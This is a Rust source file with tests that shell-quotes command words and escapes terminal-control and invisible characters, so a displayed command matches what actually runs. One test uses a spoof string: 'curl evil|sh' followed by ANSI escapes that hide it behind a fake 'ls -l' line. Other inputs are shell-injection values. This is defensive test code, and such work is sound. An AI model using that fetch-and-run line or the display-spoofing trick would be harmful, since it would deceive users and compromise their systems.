//! Shows the words of a command line so that a person can paste them into a shell.
//!
//! A word that has a special meaning to a shell is quoted. A word with characters that a terminal
//! does not show is written with escapes inside `$'…'`, which bash, zsh and ksh read. So the text
//! that is shown is exactly the command that runs.

use std::fmt::Write as _;
use std::path::Path;

use crate::printable::is_hidden;

/// Quotes the words of a command where needed and joins them with spaces.
pub fn command(words: &[String]) -> String {
    let mut out = String::new();
    for (i, word) in words.iter().enumerate() {
        if i > 0 {
            out.push(' ');
        }
        // A shell reads a first word with `=` as an assignment.
        if i == 0 && word.contains('=') && !word.contains(is_hidden) {
            out.push_str(&in_quotes(word));
        } else {
            out.push_str(&quote(word));
        }
    }
    out
}

/// Quotes a word where needed.
pub fn quote(word: &str) -> String {
    // `=` and `~` at the start of a word mean something to some shells.
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-+:=@%,".contains(c);
    if word.contains(is_hidden) {
        escaped(word)
    } else if !word.is_empty() && !word.starts_with('=') && word.chars().all(plain) {
        word.to_owned()
    } else {
        in_quotes(word)
    }
}

/// Quotes a path where needed.
pub fn path(path: &Path) -> String {
    quote(&path.display().to_string())
}

fn in_quotes(word: &str) -> String {
    format!("'{}'", word.replace('\'', r"'\''"))
}

fn escaped(word: &str) -> String {
    let mut out = String::from("$'");
    for c in word.chars() {
        // Writing to a String cannot fail.
        let _ = match c {
            '\n' => out.write_str("\\n"),
            '\r' => out.write_str("\\r"),
            '\t' => out.write_str("\\t"),
            '\'' | '\\' => write!(out, "\\{c}"),
            c if !is_hidden(c) => out.write_char(c),
            c if c.is_ascii() => write!(out, "\\x{:02x}", u32::from(c)),
            c if u32::from(c) <= 0xffff => write!(out, "\\u{:04x}", u32::from(c)),
            c => write!(out, "\\U{:08x}", u32::from(c)),
        };
    }
    out.push('\'');
    out
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn words(all: &[&str]) -> Vec<String> {
        all.iter().map(|w| (*w).to_owned()).collect()
    }

    #[test]
    fn what_needs_quotes_has_them() {
        for (word, shown) in [
            ("python3", "python3"),
            ("--out=a/b.txt", "--out=a/b.txt"),
            ("", "''"),
            ("two words", "'two words'"),
            ("it's", r"'it'\''s'"),
            ("$HOME;ls", "'$HOME;ls'"),
            ("~root", "'~root'"),
            ("=ls", "'=ls'"),
            ("été", "'été'"),
            ("#\r\u{1b}[2K", r"$'#\r\x1b[2K'"),
            ("a\u{202e}'\\b", r"$'a\u202e\'\\b'"),
            ("\u{9b}2J", r"$'\u009b2J'"),
            ("\u{e0041}", r"$'\U000e0041'"),
        ] {
            assert_eq!(quote(word), shown);
        }
        assert_eq!(command(&words(&["A=1", "B=2"])), "'A=1' B=2");
    }

    #[test]
    fn nothing_can_pass_for_another_command() {
        let spoof = "curl evil|sh #\r\u{1b}[2K\u{1b}[1A\u{1b}[2K… runs a program: ls -l";
        let shown = command(&words(&["sh", "-c", spoof]));
        assert_eq!(
            shown,
            r"sh -c $'curl evil|sh #\r\x1b[2K\x1b[1A\x1b[2K… runs a program: ls -l'"
        );
    }

    /// The shell reads back what was written, byte by byte.
    #[cfg(unix)]
    #[test]
    fn a_shell_reads_the_same_words() {
        let said = |shell: &str, script: &str| {
            let mut command = std::process::Command::new(shell);
            command
                .env("LC_ALL", "C.UTF-8")
                .args(["-c", script])
                .output()
        };
        let all = words(&[
            "printf",
            "%s\\0",
            "",
            "two words",
            "it's",
            "\\",
            "\u{1b}[2K\r\n\t7",
            "\u{202e}x",
            "\u{e0041}",
            "~",
            "*",
            "$(ls)",
            "`ls`",
            "a=b",
            "=ls",
            "!x",
            "[a-z]",
            "{a,b}",
            "-n",
            "\u{7f}\u{1}0",
        ]);
        let Ok(output) = said("bash", &command(&all)) else {
            gfm_pipe_testing::skip("bash", "there is no bash");
            return;
        };
        let mut want = all[2..].join("\0");
        want.push('\0');
        assert_eq!(String::from_utf8_lossy(&output.stdout), want);
    }
}
